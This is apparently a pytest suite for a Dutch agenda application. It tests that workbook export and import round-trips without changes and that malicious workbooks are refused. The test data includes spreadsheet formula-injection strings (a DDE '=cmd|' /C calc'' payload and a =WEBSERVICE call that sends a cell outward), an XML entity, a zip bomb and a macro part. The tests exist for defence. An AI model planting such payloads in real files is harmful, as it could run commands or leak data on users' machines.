"""The workbook out and in: a round trip changes nothing, no change is lost, and nothing in it is executed."""

from __future__ import annotations

import io
import shutil
import subprocess
import tracemalloc
import zipfile
from collections.abc import Callable
from contextlib import ExitStack, suppress
from dataclasses import replace
from functools import lru_cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from hypothesis.stateful import run_state_machine_as_test
from openpyxl import Workbook, load_workbook

from lib.access import EDIT, Person
from lib.documents import pdf
from lib.documents.tables.workbook import contents_at, workbook
from lib.dutch import stamp
from lib.feeds.workbook import taking
from lib.feeds.workbook.columns import NUMBER, WHAT, columns_of, kinds, sheet_name
from lib.feeds.workbook.reading import MOST_ROWS, Book, Line, read
from lib.feeds.workbook.storing import MINE, THEIRS, Choices
from lib.feeds.workbook.taking import CHANGED, CLASHING, NEW, THERE, WRONG, Judged
from lib.model.kinds import Invalid
from lib.model.record import RECORDS
from lib.store import agenda, coalitions, history, records
from lib.store.file.connection import reading, writing
from tests.unit import desk
from tests.unit.desk import ANNA, BRAM
from tests.unit.store.test_history import Editors

Edit = Callable[[Workbook], None]


def export(path: Path, action_id: str = "") -> bytes:
    """The workbook of the agenda as it is."""
    with reading(path) as db:
        return workbook(contents_at(db, history.newest(db), "echt", [("Agenda", "Test")], action_id))


@pytest.fixture(scope="module")
def sent(template: Path, tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The workbook of an agenda that was just filled, as the one at `path` is."""
    return export(Path(shutil.copy(template, tmp_path_factory.mktemp("werkboek"))))


@pytest.fixture(scope="module")
def sent_book(sent: bytes) -> Book:
    """The same as it is read."""
    return read(sent)


@lru_cache(maxsize=1)
def opened(content: bytes) -> Workbook:
    """The workbook as a program has it; to open one takes long."""
    return load_workbook(io.BytesIO(content))


def edited(content: bytes, *edits: tuple[str, int, str, Any]) -> bytes:
    """The workbook after somebody typed in it: sheet, row, title of the column, and what was typed."""
    book = opened(content)
    with ExitStack() as typed:
        for name, row, title, value in edits:
            titles = [cell.value for cell in book[name][1]]
            cell = book[name].cell(row, titles.index(title) + 1)
            for attribute, before in (("data_type", cell.data_type), ("value", cell.value)):
                typed.callback(setattr, cell, attribute, before)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"
        return saved(book)


def saved(book: Workbook) -> bytes:
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def judged(
    path: Path, content: bytes | Book, person: Person = ANNA, reason: str = "", choices: Choices | None = None
) -> list[Judged]:
    """What taking it in would do; nothing stays of finding out."""
    before = desk.state(path)
    found = taking.rehearse(path, person, read_once(content), reason, choices or {})
    assert desk.state(path) == before
    return found


def take(
    path: Path, content: bytes | Book, person: Person = ANNA, reason: str = "", choices: Choices | None = None
) -> None:
    with writing(path, person, reason) as db:
        taking.take(db, person, read_once(content), choices or {})


def read_once(content: bytes | Book) -> Book:
    return content if isinstance(content, Book) else _read(content)


@lru_cache(maxsize=2)
def _read(content: bytes) -> Book:
    """What is looked at first and taken in after that is read once."""
    return read(content)


def row_of(content: bytes, name: str, row_id: Any) -> int:
    """The row of a sheet that a record stands in."""
    return [cell.value for cell in opened(content)[name]["A"]].index(row_id) + 1


def newest(path: Path) -> int:
    with reading(path) as db:
        return history.newest(db)


# ------------------------------------------------------------------------------ round trip


def test_a_round_trip_without_edits_changes_nothing(path: Path) -> None:
    filled(path)
    content, before = export(path), newest(path)
    assert judged(path, content) == []
    take(path, content)
    assert newest(path) == before


def filled(path: Path) -> None:
    """Something of every kind that people record, with texts that a spreadsheet could take for more."""
    roc = desk.party(path, '=HYPERLINK("x")')
    desk.party(path, "A, B; en C", "overheid")
    desk.step(path, roc, what="+1 regel\nen nog een  regel", link="https://example.org/a")
    desk.chair(path, roc, role="-2 @rol #N/A")
    desk.chair(path, role="x005F_rol")
    desk.support(path, roc, "onder voorwaarde", condition="=1+1")
    desk.purpose(path, "=cmd|' /C calc'!A0")
    desk.save(path, {"note": "00123"})


def test_every_kind_of_record_has_a_sheet_with_columns_of_its_declaration(sent: bytes) -> None:
    book = load_workbook(io.BytesIO(sent))
    for record in kinds():
        titles = [cell.value for cell in book[sheet_name(record)][1]]
        assert titles == [NUMBER, WHAT, *(column.title for column in columns_of(record))], record.table
        assert len(set(titles)) == len(titles)
    in_a_cell = {"step_party"}
    assert {record.table for record in kinds()} == set(RECORDS) - in_a_cell
    told = {(row[0], row[1]) for row in book["Uitleg"].iter_rows(min_row=2, values_only=True)}
    assert {(record.name, column.title) for record in kinds() for column in columns_of(record)} <= told


def test_a_row_says_what_it_is_and_that_is_not_taken_in(path: Path, sent: bytes) -> None:
    book = load_workbook(io.BytesIO(sent))
    assert book["Afspraken van de coalitie"]["B2"].value.startswith("1 ")
    assert book["Verplichting"]["B2"].value
    book["Verplichting"]["B2"] = "Anders"
    assert judged(path, saved(book)) == []


def test_text_that_looks_like_a_formula_is_text_on_both_sides(path: Path) -> None:
    filled(path)
    content = export(path)
    book = load_workbook(io.BytesIO(content))
    kinds_of_cells = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds_of_cells <= {"s", "n", "d"}
    party = next(cell for cell in book["Partij"]["C"] if cell.value == '=HYPERLINK("x")')
    assert (party.data_type, party.quotePrefix) == ("s", True)
    take(path, edited(content, ("Actie", 2, "Stand van zaken", "=2+2")))
    with reading(path) as db:
        notes = [note for (note,) in db.execute("SELECT note FROM action WHERE note <> ''")]
    assert "=2+2" in notes


def test_choices_come_from_a_list(path: Path) -> None:
    desk.party(path)
    book = load_workbook(io.BytesIO(export(path)))
    listed = {
        str(rule.sqref).split(":")[0]: rule.formula1 for rule in book["Stoel"].data_validations.dataValidation
    }
    assert len(listed) == 5  # action, side, region, needed, party
    sheet, _, cells = listed["D2"].partition("!")
    assert sheet == "'Keuzes'"
    values = [row[0].value for row in book["Keuzes"][cells.replace("$", "")]]
    assert values == ["Bedrijfsleven", "Onderwijs", "Overheid"]


def test_of_one_action_only_its_own_rows(path: Path) -> None:
    desk.chair(path)
    desk.chair(path, action_id="4", role="lab")
    content = export(path, "4")
    book = load_workbook(io.BytesIO(content))
    assert [row[4] for row in book["Stoel"].iter_rows(min_row=2, values_only=True)] == ["lab"]
    assert book["Stoel"].max_row == 2
    assert judged(path, content) == []


def saved_by_office(content: bytes, folder: Path) -> bytes:
    """The workbook after LibreOffice opened it and saved it."""
    (folder / "uit").mkdir()
    (folder / "werkboek.xlsx").write_bytes(content)
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [str(pdf.office()), profile, "--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML"]
    place = ["--outdir", str(folder / "uit"), str(folder / "werkboek.xlsx")]
    subprocess.run([*command, *place], check=True, capture_output=True, timeout=120)
    return (folder / "uit" / "werkboek.xlsx").read_bytes()


@pytest.mark.skipif(pdf.office() is None, reason="LibreOffice is not on this machine")
def test_libreoffice_saves_the_workbook_with_the_same_cells_and_it_comes_in_unchanged(
    path: Path, tmp_path: Path
) -> None:
    filled(path)
    drop_what_office_drops(path)
    content, before = export(path), newest(path)
    again = saved_by_office(content, tmp_path)
    assert cells_of(again) == cells_of(content)
    take(path, again)
    assert newest(path) == before


def drop_what_office_drops(path: Path) -> None:
    """Take away the text that LibreOffice itself reads as an escaped letter, in any file."""
    with reading(path) as db:
        found = db.execute("SELECT id, version FROM chair WHERE role = 'x005F_rol'").fetchone()
    with writing(path, ANNA) as db:
        records.save(db, "chair", found[0], found[1], {"role": "rol"})


def cells_of(content: bytes) -> dict[tuple[str, str], Any]:
    """What stands in each cell that is filled, by sheet and place."""
    book = load_workbook(io.BytesIO(content))
    return {
        (sheet.title, cell.coordinate): cell.value
        for sheet in book
        for row in sheet
        for cell in row
        if cell.value not in (None, "")
    }


# ------------------------------------------------------------------------------ changes


def test_a_changed_cell_lands_through_the_rules_and_is_told_by_cell(path: Path, sent: bytes) -> None:
    typed = edited(sent, ("Actie", row_of(sent, "Actie", "3"), "Stand van zaken", "Nieuw"))
    (cell,) = judged(path, typed)
    assert (cell.sheet, cell.column, cell.old, cell.new, cell.state) == (
        "Actie", "Stand van zaken", "", "Nieuw", CHANGED,
    )  # fmt: skip
    take(path, typed)
    assert desk.action(path)["note"] == "Nieuw"
    assert [cell.state for cell in judged(path, typed)] == [THERE]


def test_a_new_party_can_sit_on_a_new_chair_of_the_same_workbook(path: Path, sent: bytes) -> None:
    typed = edited(
        sent,
        ("Partij", 2, "Naam van de organisatie", "Lab Nieuw"),
        ("Partij", 2, "Kant", "Onderwijs"),
        ("Stoel", 2, "Actie", "3"),
        ("Stoel", 2, "Kant", "onderwijs"),
        ("Stoel", 2, "Rol", "lab"),
        ("Stoel", 2, "Partij", "lab nieuw"),
    )
    assert {cell.state for cell in judged(path, typed)} == {NEW}
    take(path, typed)
    with reading(path) as db:
        found = db.execute("SELECT p.name FROM chair c JOIN party p ON p.id = c.party_id").fetchall()
    assert found == [("Lab Nieuw",)]
    assert {cell.state for cell in judged(path, typed)} == {THERE}, "a second time adds no second one"


def test_one_wrong_cell_keeps_all_of_it_out(path: Path, sent: bytes) -> None:
    typed = edited(
        sent,
        ("Actie", 2, "Stand van zaken", "Wel goed"),
        ("Mijlpaal", 2, "Actie", "3"),
        ("Mijlpaal", 2, "Wat", "Opening"),
        ("Mijlpaal", 2, "Gereed op", "ooit"),
    )
    states = {cell.column: (cell.state, cell.sentence) for cell in judged(path, typed)}
    assert states["Stand van zaken"][0] == CHANGED
    assert states["Gereed op"][0] == WRONG
    assert "geen datum" in states["Gereed op"][1]
    before = newest(path)
    with pytest.raises(Invalid, match="Blad Mijlpaal, rij 2"):
        take(path, typed)
    assert newest(path) == before


def test_what_gedeputeerde_staten_decide_is_refused_here_too(path: Path, sent: bytes) -> None:
    row = row_of(sent, "Actie", "3")
    (cell,) = judged(path, edited(sent, ("Actie", row, "Prioriteit", "laag")), reason="Omdat")
    assert cell.state == WRONG
    assert "besluit van Gedeputeerde Staten" in cell.sentence
    (fase,) = judged(path, edited(sent, ("Actie", row, "Fase", "In uitvoering")))
    assert fase.sentence.startswith("Deze kolom is alleen om te lezen")


def test_a_reason_is_asked_once_for_all(path: Path) -> None:
    for name in ("Een", "Twee"):
        desk.party(path, name)
    content = export(path)
    typed = edited(
        content,
        *(
            (sheet, row, title, value)
            for sheet, row in (("Partij", 2), ("Partij", 3))
            for title, value in (("Datum van intrekken", "14-03-2022"), ("Reden", "opgeheven"))
        ),
    )
    assert any("Geef bij deze wijziging een reden" in cell.sentence for cell in judged(path, typed))
    take(path, typed, reason="Opgeheven volgens het register")
    with reading(path) as db:
        assert db.execute("SELECT count(*) FROM party WHERE withdrawn_on IS NOT NULL").fetchone() == (2,)


def test_rights_hold_for_a_workbook(path: Path, sent: bytes) -> None:
    typed = edited(sent, ("Instellingen", 2, "Bewijs oud na (dagen)", 365))
    editor = Person("Eva", rights=frozenset({EDIT}))
    (cell,) = judged(path, typed, editor)
    assert cell.state == WRONG
    assert "Er is niets opgeslagen" in cell.sentence
    own = Person("Aan", rights=frozenset({EDIT}), actions=("4",))
    (cell,) = judged(path, edited(sent, ("Actie", row_of(sent, "Actie", "3"), "Stand van zaken", "x")), own)
    assert cell.state == WRONG


def test_a_number_of_nothing_is_refused_in_words(path: Path, sent: bytes) -> None:
    typed = [
        ("Soort", "motie"),
        ("Nummer (id)", "M12"),
        ("Wat is gevraagd of toegezegd", "Iets"),
        ("Datum", "14-03-2022"),
        ("Stand", "open"),
        ("Beantwoord in", 999),
    ]
    cells = [("Motie of toezegging", 2, title, value) for title, value in typed]
    (wrong,) = [cell for cell in judged(path, edited(sent, *cells)) if cell.state == WRONG]
    assert "een rij die er niet is" in wrong.sentence


# ------------------------------------------------------------------------------ two people


def test_two_people_in_other_cells_both_land(path: Path, sent: bytes) -> None:
    row = row_of(sent, "Actie", "3")
    take(path, edited(sent, ("Actie", row, "Stand van zaken", "Van Anna")))
    desk.party(path, "Roc Later")
    take(path, edited(sent, ("Actie", row_of(sent, "Actie", "4"), "Stand van zaken", "Van Bram")), BRAM)
    assert (desk.action(path)["note"], desk.action(path, "4")["note"]) == ("Van Anna", "Van Bram")


def test_two_people_in_one_cell_see_both_values_and_choose(path: Path, sent: bytes) -> None:
    row = row_of(sent, "Actie", "3")
    take(path, edited(sent, ("Actie", row, "Stand van zaken", "Van Anna")))
    second = edited(sent, ("Actie", row, "Stand van zaken", "Van Bram"))
    (cell,) = judged(path, second, BRAM)
    assert cell.state == CLASHING
    assert "Anna maakte er intussen “Van Anna” van" in cell.sentence
    with pytest.raises(Invalid, match="Er is niets overgenomen"):
        take(path, second, BRAM)
    assert cell.place == ("action", "3", "note")
    take(path, second, BRAM, choices={cell.place: THEIRS})
    assert desk.action(path)["note"] == "Van Anna"
    take(path, second, BRAM, choices={cell.place: MINE})
    assert desk.action(path)["note"] == "Van Bram"


def test_a_workbook_of_before_a_restored_copy_is_refused(path: Path) -> None:
    desk.note(path, "Een")
    content = export(path)
    book = load_workbook(io.BytesIO(content))
    for row in book["Werkboek"].iter_rows():
        if row[0].value == "Kenmerk van dit werkboek":
            row[1].value = str(row[1].value).replace("20", "19", 1)
    with pytest.raises(Invalid, match="andere agenda"):
        judged(path, saved(book))


# ------------------------------------------------------------------------------ any state

_TEXT = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=60)
_RISKY = st.sampled_from(
    ["=1+1", "+31 6", "-", "@a", "#N/A", "00123", "1e5", "WAAR", "14-03-2022", "a\nb", "_x0041_"]
)
_WORDS = (_TEXT | _RISKY).filter(lambda text: bool(text.strip()))


@st.composite
def act(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    """Something that somebody records, with any words."""
    kind = draw(
        st.sampled_from(["party", "step", "chair", "milestone", "note", "withdraw", "meeting", "purpose"])
    )
    return kind, {
        "words": draw(_WORDS),
        "day": f"20{draw(st.integers(18, 22))}-03-14",
        "n": draw(st.integers(0, 9)),
    }


def do(path: Path, kind: str, words: str, day: str, n: int) -> None:
    """Do it, if the rules let it be done."""
    with reading(path) as db:
        parties = [number for (number,) in db.execute("SELECT id FROM party WHERE withdrawn_on IS NULL")]
    chosen = parties[n % len(parties)] if parties else None
    with suppress(Invalid), writing(path, ANNA, "Reden") as db:
        if kind == "party":
            records.add(db, "party", {"name": words, "helix": "onderwijs", "region": "AM15"})
        elif kind == "step":
            agenda.add_step(db, {**desk.STEP, "what": words, "happened_on": day}, parties[: n % 4])
        elif kind == "chair":
            seat = {
                "action_id": "3",
                "helix": "onderwijs",
                "role": words,
                "party_id": chosen,
                "needed": n % 2,
            }
            records.add(db, "chair", seat)
        elif kind == "milestone":
            records.add(db, "milestone", {"action_id": "4", "what": words, "due": day, "owner_id": chosen})
        elif kind == "meeting":
            records.add(db, "meeting", {"kind": "technologietafel", "held_on": day, "title": words})
        elif kind == "purpose":
            coalitions.write_purpose(db, "3", "financiering", words)
        elif kind == "note":
            row = records.get(db, "action", "4")
            records.save(db, "action", "4", row["version"], {"note": words})
        elif chosen is not None:
            records.withdraw(db, "party", chosen, records.get(db, "party", chosen)["version"])


@settings(max_examples=8, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(act(), min_size=3, max_size=12), st.lists(act(), max_size=3))
def test_export_and_import_is_the_identity_in_any_state(
    path: Path, acts: list[tuple[str, dict[str, Any]]], later: list[tuple[str, dict[str, Any]]]
) -> None:
    """Also when others changed things after the export: an unedited workbook claims nothing."""
    for kind, values in acts:
        do(path, kind, **values)
    content = export(path)
    for kind, values in later:
        do(path, kind, **values)
    before = newest(path)
    take(path, content)
    assert newest(path) == before


class Exchanged(Editors):
    """The agenda that people work in at random, which goes out and in again at the end."""

    def teardown(self) -> None:
        try:
            if hasattr(self, "folder"):
                before, book = newest(self.path), read(export(self.path))
                with writing(self.path, ANNA, at=stamp(self.at)) as db:
                    taking.take(db, ANNA, book, {})
                assert newest(self.path) == before
        finally:
            super().teardown()


def test_export_and_import_is_the_identity_in_any_reachable_state(template: Path) -> None:
    Exchanged.template = template
    run_state_machine_as_test(
        Exchanged, settings=settings(settings(), max_examples=4, stateful_step_count=30)
    )


_TYPED = st.dictionaries(st.sampled_from(["3", "4", "7", "8"]), st.sampled_from(["een", "twee", "=drie"]))


@settings(max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(_TYPED, _TYPED, st.sampled_from([MINE, THEIRS]))
def test_of_two_who_take_in_one_workbook_nothing_is_lost_unseen(
    path: Path, sent_book: Book, first: dict[str, str], second: dict[str, str], choice: str
) -> None:
    """Where both typed something else a choice is asked; every other cell of both lands."""
    before = {key: desk.action(path, key)["note"] for key in "3478"}
    book = with_notes(as_of_now(path, sent_book), before)
    take(path, with_notes(book, first))
    theirs = with_notes(book, second)
    found = {cell.place: cell.state for cell in judged(path, theirs, BRAM)}
    others = {key: note for key, note in first.items() if note != before[key]}
    both = {key for key in second if key in others and second[key] not in (others[key], before[key])}
    assert {place[1] for place, state in found.items() if place and state == CLASHING} == both
    take(path, theirs, BRAM, choices={("action", key, "note"): choice for key in both})
    kept = both if choice == THEIRS else set()
    wanted = {key: note for key, note in second.items() if key not in kept and note != before[key]}
    assert {key: desk.action(path, key)["note"] for key in "3478"} == before | others | wanted


def as_of_now(path: Path, book: Book) -> Book:
    """The workbook as if it was made this moment, when only notes of actions changed since."""
    with reading(path) as db:
        until = history.newest(db)
        return replace(book, until=until, moment=str(history.moment_of(db, until)))


def with_notes(book: Book, notes: dict[str, str]) -> Book:
    """The workbook as it would be read after somebody typed notes of actions."""

    def typed(line: Line) -> Line:
        own = {"note": notes[line.row_id]} if line.row_id in notes else {}
        return replace(line, cells={**line.cells, **own})

    return replace(
        book,
        sheets=[
            replace(sheet, lines=[*map(typed, sheet.lines)]) if sheet.record.table == "action" else sheet
            for sheet in book.sheets
        ],
    )


# ------------------------------------------------------------------------------ hostile


def refused(content: bytes, match: str) -> None:
    with pytest.raises(Invalid, match=match):
        read(content)


def test_another_workbook_or_no_workbook_is_refused() -> None:
    book = Workbook()
    book.active.append(["Naam", "Kant"])
    refused(saved(book), "geen werkboek van deze app")
    refused(b"Naam;Kant", "beschadigd of geen XLSX")
    refused(b"", "beschadigd of geen XLSX")


def test_strange_sheets_columns_and_cells_are_refused(sent: bytes) -> None:
    book = load_workbook(io.BytesIO(sent))
    extra = book.create_sheet("Extra")
    refused(saved(book), "Het blad “Extra” hoort niet")
    book.remove(extra)
    sheet = book["Partij"]
    for place, words, why in (
        ("H1", "Geheim", "hoort geen kolom “Geheim”"),
        ("AA3", "los", "Cel AA3 op het blad “Partij” staat onder geen kolomnaam"),
        ("A1", None, "ontbreekt de kolom “Nr”"),
    ):
        before, sheet[place].value = sheet[place].value, words
        refused(saved(book), why)
        sheet[place].value = before
    book["Actie"]["A3"] = book["Actie"]["A2"].value
    refused(saved(book), "staat nummer .* in rij 2 én in rij 3")


def test_an_earlier_export_with_former_words_is_refused_by_its_column_and_its_cell(
    path: Path, sent: bytes
) -> None:
    """A column that is called otherwise by now, and a choice that is: nothing lands, and it says what can."""
    book = load_workbook(io.BytesIO(sent))
    title = next(cell for cell in book["Onderzoeksgroep"][1] if cell.value == "Eindigt op")
    title.value = "Houdt op op"
    refused(saved(book), "Op het blad “Onderzoeksgroep” hoort geen kolom “Houdt op op”")
    typed = edited(sent, ("Campus", 2, "Lectoraat of practoraat", "gecombineerd lectoraat-practoraat"))
    (cell,) = judged(path, typed)
    assert cell.state == WRONG
    assert "lectoraat en practoraat" in cell.sentence


def test_formulas_merged_cells_and_errors_are_refused_by_their_place(sent: bytes) -> None:
    book = load_workbook(io.BytesIO(sent))
    for words, why in (
        ('=WEBSERVICE("http://example.org/"&A1)', "Cel B2 op het blad “Partij” bevat een formule"),
        ("#REF!", "Cel B2 op het blad “Partij” bevat een fout"),
    ):
        book["Partij"]["B2"] = words
        refused(saved(book), why)
    book["Partij"].merge_cells("B2:C3")
    refused(saved(book), "cellen samengevoegd")


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """The workbook with one more part in its package."""
    file = io.BytesIO(content)
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, part)
    return file.getvalue()


def test_macros_other_files_entities_and_bombs_are_refused(sent: bytes) -> None:
    refused(with_part(sent, "xl/vbaProject.bin", b"macro"), "macro’s")
    refused(with_part(sent, "xl/externalLinks/externalLink1.xml", b"<a/>"), "verwijst naar andere bestanden")
    refused(with_part(sent, "xl/a.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "beschadigd")
    refused(with_part(sent, "xl/big.xml", b" " * 45_000_000), "pakt uit tot meer dan 40 MB")
    refused(sent + bytes(20_000_000), "groter dan 20 MB")


def test_more_rows_than_may_be_are_refused_within_bounded_memory(
    sent: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Forty times as many as a limit of a twentieth: to watch the memory of all rows takes long."""
    assert MOST_ROWS == 50_000
    monkeypatch.setattr("lib.feeds.workbook.reading.MOST_ROWS", 2_500)
    row = b'<row r="%d"><c r="A%d"><v>1</v></c></row>'
    rows = b"".join(row % (number, number) for number in range(2, 100_002))
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sent)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            text = old.read(part)
            if part.filename == "xl/worksheets/sheet3.xml":
                text = text.replace(b"</sheetData>", rows + b"</sheetData>")
            new.writestr(part.filename, text)
    tracemalloc.start()
    refused(file.getvalue(), "meer dan 2.500 rijen")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 25_000_000, "all rows together take twice that"
